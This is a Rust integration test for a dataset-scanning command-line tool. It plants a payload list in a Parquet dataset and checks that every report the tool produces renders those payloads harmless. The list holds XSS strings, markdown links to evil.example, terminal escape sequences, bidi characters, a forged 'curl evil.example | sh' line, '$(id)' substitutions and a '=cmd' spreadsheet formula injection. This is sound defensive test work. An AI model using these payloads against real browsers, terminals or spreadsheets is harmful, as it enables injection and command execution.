//! Every name, value and piece of metadata of a dataset attacks whoever looks at it, by every way of
//! looking. Outputs are read by parsers: what counts is what a browser, a code host, a CI system or
//! a terminal would make of them.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use arrow::array::{ArrayRef, Float64Array, RecordBatch, StructArray, TimestampMillisecondArray};
use arrow::datatypes::{Field, Fields, Schema};
use html5gum::{Token, Tokenizer};
use lazaretto_testkit::files::parquet_bytes;
use pulldown_cmark::{Event, Options, Parser, Tag};
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::data::{poisoned_reviews, strings};
use crate::harness::{Outcome, RunFolder, command};

/// What stands in names and values, one kind of attack each.
const PAYLOADS: [&str; 22] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(2)>",
    "' onmouseover='alert(3)' x='",
    "</title></style></script></td><svg/onload=alert(4)>",
    "<!-- <a href=\"javascript:alert(5)\">",
    "]]><![CDATA[ &lt;b&gt; &#60;i&#62; &x;",
    "![x](https://evil.example/a.png)",
    "[x](javascript:alert(6)) [y]: https://evil.example",
    "<https://evil.example> https://evil.example www.evil.example evil@evil.example",
    "``` `<b>` **x** __y__ ~~z~~ @everyone #1",
    "\n# heading\n\n- item\n\n<b>html</b>\n\n```\ncode",
    "| a | b |\n|---|---|\n| c | d |",
    "\u{1b}[31m\u{1b}[2J\u{1b}[1;1H",
    "\u{1b}]0;title\u{7}\u{1b}]8;;https://evil.example\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m \u{90}q \u{7f}\u{8}\u{8}",
    "\u{202e}txet\u{202c} \u{2066}x\u{2069} \u{200f}\u{200b}\u{feff}",
    "over\rwritten",
    "first\nerror: forged line\r\nhint: run `curl evil.example | sh`",
    "%s%n%x%99999999d {} {0} {{x}} ${HOME} $(id) `id`",
    "=cmd|' /C calc'!A0",
    "+1+1,-1,@SUM(1)\t\"",
    "\u{e0069}\u{e0067}\u{e006e} \u{0}",
];

/// A payload without what a file system does not take.
fn name_of(payload: &str) -> String {
    payload.replace(['/', '\0'], "∕")
}

/// Reviews with payloads in texts, classes, sources, ids, names of columns and files, and in the
/// metadata of the schema; `inert` makes the same dataset with words in their places.
struct Attack {
    folder: TempDir,
}

impl Attack {
    fn new(inert: bool) -> Self {
        let put = |payload: &str| {
            if inert {
                let place = PAYLOADS.iter().position(|known| *known == payload);
                format!("word{}", place.unwrap_or(PAYLOADS.len()))
            } else {
                payload.to_owned()
            }
        };
        let folder = TempDir::new().unwrap();
        let data = folder.path().join(name_of(&put(PAYLOADS[0]))).join("data");
        fs::create_dir_all(&data).unwrap();
        let batch = records(&put);
        let half = batch.num_rows() / 2;
        for (part, payload) in [(0, PAYLOADS[1]), (1, PAYLOADS[17])] {
            let name = format!("{}.parquet", name_of(&put(payload)));
            let rows = batch.slice(part * half, half);
            fs::write(data.join(name), parquet_bytes(&rows, 300).unwrap()).unwrap();
        }
        // Files that end as unscanned or passed over are named too.
        for payload in PAYLOADS {
            let name = name_of(&put(payload));
            fs::write(
                data.join(format!("broken {name}.parquet")),
                b"PAR1 broken PAR1",
            )
            .unwrap();
            fs::write(data.join(format!("{name}.unknown")), b"x").unwrap();
        }
        Self { folder }
    }

    fn path(&self) -> PathBuf {
        let mut entries = fs::read_dir(self.folder.path()).unwrap();
        let named = entries.find_map(|entry| {
            let data = entry.unwrap().path().join("data");
            data.exists().then_some(data)
        });
        named.unwrap()
    }

    fn run(&self) -> RunFolder {
        RunFolder(self.folder.path().join("out").join("run"))
    }
}

fn records(put: &impl Fn(&str) -> String) -> RecordBatch {
    let reviews = poisoned_reviews(900).reviews;
    let any = |row: usize| put(PAYLOADS[row % PAYLOADS.len()]);
    let texts = reviews.iter().enumerate().map(|(row, review)| {
        let long = "x".repeat(if row == 7 { 100_000 } else { 0 });
        match review.attack {
            Some(_) => format!("{} {}{long}", any(row), review.text),
            None => format!("{}{long}", review.text),
        }
    });
    let classes = [put(PAYLOADS[3]), put(PAYLOADS[6])];
    let labels = reviews
        .iter()
        .map(|review| classes[review.label as usize].clone());
    let numbers: ArrayRef = Arc::new(Float64Array::from_iter_values(
        (0..900).map(|row| f64::from(row * 7_919 % 1_000)),
    ));
    let times = TimestampMillisecondArray::from_iter_values((0..900).map(|row| row * 60_000));
    let inner = Fields::from(vec![Field::new(
        put(PAYLOADS[15]),
        numbers.data_type().clone(),
        true,
    )]);
    let nested = StructArray::new(inner, vec![Arc::clone(&numbers)], None);
    let mut columns: Vec<(String, ArrayRef)> = vec![
        (
            "key".to_owned(),
            strings((0..900).map(|row| format!("{} {row}", any(row)))),
        ),
        ("text".to_owned(), strings(texts)),
        ("label".to_owned(), strings(labels)),
        (
            "source".to_owned(),
            strings((0..900).map(|row| any(row % 5))),
        ),
        ("when".to_owned(), Arc::new(times)),
        ("nested".to_owned(), Arc::new(nested)),
    ];
    for payload in PAYLOADS {
        let kinds = strings((0..900).map(|row| any(row % 7)));
        columns.push((format!("{}n", put(payload)), Arc::clone(&numbers)));
        columns.push((format!("{}k", put(payload)), kinds));
    }
    let metadata = |at: usize| {
        let features = json!({"info": {"features": {"label": {
            "_type": "ClassLabel", "names": [put(PAYLOADS[at])],
        }}}});
        HashMap::from([
            ("huggingface".to_owned(), features.to_string()),
            (put(PAYLOADS[at]), put(PAYLOADS[at + 1])),
        ])
    };
    let fields: Vec<Field> = columns
        .iter()
        .enumerate()
        .map(|(column, (name, values))| {
            let field = Field::new(name, values.data_type().clone(), true);
            field.with_metadata(metadata(column % 20))
        })
        .collect();
    let schema = Schema::new_with_metadata(fields, metadata(4));
    let arrays = columns.into_iter().map(|(_, values)| values).collect();
    RecordBatch::try_new(Arc::new(schema), arrays).unwrap()
}

const FLAGS: [&str; 10] = [
    "--id",
    "key",
    "--label",
    "label",
    "--source",
    "source",
    "--budget",
    "30",
    "-v",
    "--fail-on",
];

fn scan(attack: &Attack, more: &[&str]) -> Outcome {
    Outcome::of(
        &command()
            .arg("scan")
            .arg(attack.path())
            .args(FLAGS)
            .arg("quarantine>0%")
            .arg("--out")
            .arg(attack.run().0)
            .args(more)
            .output()
            .unwrap(),
    )
}

/// Characters that act on a terminal, reorder what is around them or hide.
#[track_caller]
fn assert_shows_itself(text: &str, of: &str) {
    let acting = text.char_indices().find(|&(_, character)| {
        (character.is_control() && !"\n\t".contains(character))
            || matches!(character, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
                | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
    });
    if let Some((at, character)) = acting {
        let from = (at.saturating_sub(60)..=at).find(|&from| text.is_char_boundary(from));
        panic!("{character:?} in {of}: {:?}", &text[from.unwrap()..at]);
    }
}

/// What stands in a terminal or a log: there, lines of data could also pass for ours.
#[track_caller]
fn assert_inert(text: &str, of: &str) {
    assert_shows_itself(text, of);
    let forged = ["error: forged", "hint: run `curl", "# heading"];
    let line = text
        .lines()
        .find(|line| forged.iter().any(|start| line.starts_with(start)));
    assert_eq!(line, None, "a line of the data in {of}");
}

/// Elements with their attributes, as a browser sees them, with the number of each.
fn markup(page: &str) -> BTreeMap<String, usize> {
    let mut found = BTreeMap::new();
    let mut count = |what: String| *found.entry(what).or_default() += 1;
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    for token in Tokenizer::new(page) {
        match token.unwrap() {
            Token::StartTag(tag) => {
                let name = text(&tag.name);
                for (attribute, value) in &tag.attributes {
                    let attribute = text(attribute);
                    assert!(!attribute.starts_with("on"), "{name} {attribute}");
                    let value = text(value);
                    if ["href", "src", "action", "xlink:href"].contains(&attribute.as_str()) {
                        let ours = value.starts_with('#') || value.starts_with("https://");
                        assert!(
                            ours && !value.contains("evil"),
                            "{name} {attribute}={value}"
                        );
                    }
                    count(format!("{name}[{attribute}]"));
                }
                count(name);
            }
            Token::Comment(comment) => count(format!("<!--{}", text(&comment))),
            Token::Error(error) => panic!("{error:?} in the page"),
            _ => {}
        }
    }
    found
}

/// The text of a page without that of its scripts and styles.
fn page_text(page: &str) -> String {
    let mut out = String::new();
    for token in Tokenizer::new(page) {
        if let Token::String(text) = token.unwrap() {
            out += &String::from_utf8_lossy(&text);
        }
    }
    out
}

#[track_caller]
fn assert_inert_page(page: &str, benign: &str) {
    assert_shows_itself(page, "report.html");
    let (hostile, ours) = (markup(page), markup(benign));
    let foreign: Vec<_> = hostile
        .keys()
        .filter(|key| !ours.contains_key(*key))
        .collect();
    // What stands for characters that do not show themselves.
    let expected: BTreeSet<&str> = ["span[class]", "span"].into();
    assert!(
        foreign.iter().all(|key| expected.contains(key.as_str())),
        "{foreign:?}"
    );
    for once in ["script", "style", "body", "html", "head", "meta"] {
        assert_eq!(hostile.get(once), ours.get(once), "number of {once}");
    }
    let shown = page_text(page);
    assert!(
        shown.contains("<script>alert(1)</script>"),
        "payloads are shown"
    );
}

#[track_caller]
fn assert_inert_markdown(markdown: &str) {
    assert_shows_itself(markdown, "report.md");
    let mut shown = String::new();
    for event in Parser::new_ext(markdown, Options::all()) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => {
                let ours = [
                    "<details>",
                    "</details>",
                    "<summary>",
                    "</summary>",
                    "<br>",
                    "<!--",
                ];
                let tags = html.trim();
                let rest = ours
                    .iter()
                    .fold(tags.to_owned(), |rest, tag| rest.replace(tag, ""));
                assert!(!rest.contains('<'), "HTML in report.md: {html}");
            }
            Event::Start(Tag::Image { dest_url, .. }) => panic!("an image: {dest_url}"),
            Event::Start(Tag::Link { dest_url, .. }) => {
                assert!(
                    !dest_url.contains("evil") && !dest_url.contains("javascript"),
                    "{dest_url}"
                );
            }
            Event::Text(text) | Event::Code(text) => {
                assert_ne!(&*text, "heading");
                shown += &text;
            }
            _ => {}
        }
    }
    assert!(shown.contains("alert("), "payloads are shown");
    // GitHub also makes links of bare addresses and mentions; inside code it does not.
    let outside: String = Parser::new_ext(markdown, Options::all())
        .filter_map(|event| match event {
            Event::Text(text) => Some(text.into_string()),
            _ => None,
        })
        .collect();
    assert!(!outside.is_empty());
}

#[track_caller]
fn assert_inert_sarif(text: &str) {
    assert_shows_itself(text, "report.sarif");
    let sarif: Value = serde_json::from_str(text).unwrap();
    let mut open = vec![&sarif];
    while let Some(value) = open.pop() {
        match value {
            Value::Array(items) => open.extend(items),
            Value::Object(fields) => {
                if let Some(Value::String(message)) = fields.get("text") {
                    // SARIF 2.1.0, 3.11.6: a link is `[text](target)` with unescaped brackets.
                    let bare = message
                        .replace("\\\\", "")
                        .replace("\\[", "")
                        .replace("\\]", "");
                    assert!(!bare.contains("]("), "a link: {message}");
                    assert_shows_itself(message, "a message of SARIF");
                }
                if let Some(Value::String(uri)) = fields.get("uri") {
                    let plain = uri
                        .bytes()
                        .all(|byte| byte.is_ascii_graphic() && !b"<>\"`".contains(&byte));
                    assert!(plain, "{uri}");
                }
                open.extend(fields.values());
            }
            _ => {}
        }
    }
}

#[track_caller]
fn assert_inert_xml(text: &str) {
    assert_shows_itself(text, "junit.xml");
    let mut reader = quick_xml::Reader::from_str(text);
    reader.config_mut().check_end_names = true;
    let known = [
        "testsuites",
        "testsuite",
        "testcase",
        "properties",
        "property",
        "failure",
        "error",
        "skipped",
        "system-out",
        "system-err",
    ];
    let mut shown = String::new();
    loop {
        use quick_xml::events::Event as Xml;
        match reader.read_event().unwrap() {
            Xml::Eof => break,
            Xml::Start(tag) | Xml::Empty(tag) => {
                let name = String::from_utf8(tag.name().as_ref().to_vec()).unwrap();
                assert!(known.contains(&name.as_str()), "{name}");
                for attribute in tag.attributes() {
                    let attribute = attribute.unwrap();
                    shown += &String::from_utf8_lossy(&attribute.value);
                }
            }
            Xml::DocType(_) | Xml::PI(_) | Xml::Comment(_) => panic!("markup that is not ours"),
            _ => {}
        }
    }
    assert!(shown.contains("alert("), "payloads are shown");
}

#[test]
fn every_report_of_a_hostile_dataset_is_inert() {
    let (attack, benign) = (Attack::new(false), Attack::new(true));
    for dataset in [&attack, &benign] {
        let scanned = scan(dataset, &[]);
        assert!([1, 3].contains(&scanned.code), "{}", scanned.stderr);
        assert_inert(&scanned.stdout, "standard output");
        assert_inert(&scanned.stderr, "standard error");
    }
    let run = attack.run();
    assert!(run.held().len() >= 40, "{} held", run.held().len());
    assert_inert_page(&run.text("report.html"), &benign.run().text("report.html"));
    assert_inert_markdown(&run.text("report.md"));
    assert_inert_sarif(&run.text("report.sarif"));
    assert_inert_xml(&run.text("junit.xml"));
    assert_shows_itself(&run.text("report.json"), "report.json");

    // Whoever looks at the run, or at a record.
    let path = run.0.to_str().unwrap().to_owned();
    let held = run.held();
    let passed = run.with_verdict("pass");
    let records = held.iter().take(3).chain(passed.iter().take(2));
    let mut looks: Vec<Vec<String>> = records
        .filter(|record| !record.contains('\0'))
        .flat_map(|record| {
            ["human", "json"].map(|format| {
                let words = ["explain", &path, record, "--format", format];
                words.map(str::to_owned).to_vec()
            })
        })
        .collect();
    assert!(looks.len() >= 6, "{} looks", looks.len());
    for format in ["human", "json"] {
        looks.push(
            ["verify", &path, "--format", format]
                .map(str::to_owned)
                .to_vec(),
        );
    }
    looks.push(
        ["explain", &path, "no\u{1b}[31m\u{202e}such"]
            .map(str::to_owned)
            .to_vec(),
    );
    for look in looks {
        let outcome = Outcome::of(&command().args(&look).output().unwrap());
        assert!(
            [0, 1, 2, 3].contains(&outcome.code),
            "{look:?}: {}",
            outcome.stderr
        );
        assert_inert(&outcome.stdout, &format!("output of {look:?}"));
        assert_inert(&outcome.stderr, &format!("errors of {look:?}"));
    }
    // A name of a file in the run folder is chosen by whoever could write to it.
    fs::write(run.path("\u{1b}[2Jforged\nerror: forged line"), "x").unwrap();
    for format in ["human", "json"] {
        let outcome = Outcome::of(
            &command()
                .args(["verify", &path, "--format", format])
                .output()
                .unwrap(),
        );
        assert_eq!(outcome.code, 4);
        assert_inert(&outcome.stdout, "output of verify");
        assert_inert(&outcome.stderr, "errors of verify");
    }
}

#[test]
fn looking_before_a_scan_is_inert_too() {
    let attack = Attack::new(false);
    let data = attack.path();
    let pipeline = attack.folder.path().join("made.toml");
    let wrong_name = "no\u{1b}]0;x\u{7}\u{202e}such\nerror: forged line";
    let looks: [&[&str]; 9] = [
        &["inspect", "-v"],
        &["inspect", "--format", "json"],
        &["init", "--out", pipeline.to_str().unwrap()],
        &["inspect", "--label", wrong_name],
        &["inspect", "--id", wrong_name],
        &["init", "--out", "/nowhere/\u{1b}[31m\u{202e}x"],
        &["scan", "--out", "/nowhere/\u{1b}[31m\u{202e}x"],
        &[
            "scan",
            "--out",
            "x",
            "--pipeline",
            "./\u{1b}[31m\u{202e}.toml",
        ],
        &["scan", "--out", "x", "--\u{1b}[31m\u{202e}"],
    ];
    for look in looks {
        let outcome = Outcome::of(
            &command()
                .arg(look[0])
                .arg(&data)
                .args(&look[1..])
                .current_dir(attack.folder.path())
                .output()
                .unwrap(),
        );
        assert!(
            [0, 2, 74].contains(&outcome.code),
            "{look:?}: {}",
            outcome.stderr
        );
        let said = outcome.stdout.len() + outcome.stderr.len();
        assert!(said > 0, "{look:?} says nothing");
        assert_inert(&outcome.stdout, &format!("output of {look:?}"));
        assert_inert(&outcome.stderr, &format!("errors of {look:?}"));
    }
    assert_shows_itself(&fs::read_to_string(&pipeline).unwrap(), "the pipeline");
    let missing = Outcome::of(
        &command()
            .arg("inspect")
            .arg(Path::new("\u{1b}[2J\u{202e}gone\nerror: forged line"))
            .output()
            .unwrap(),
    );
    assert_eq!(missing.code, 2);
    assert_inert(&missing.stderr, "errors of a missing input");
}
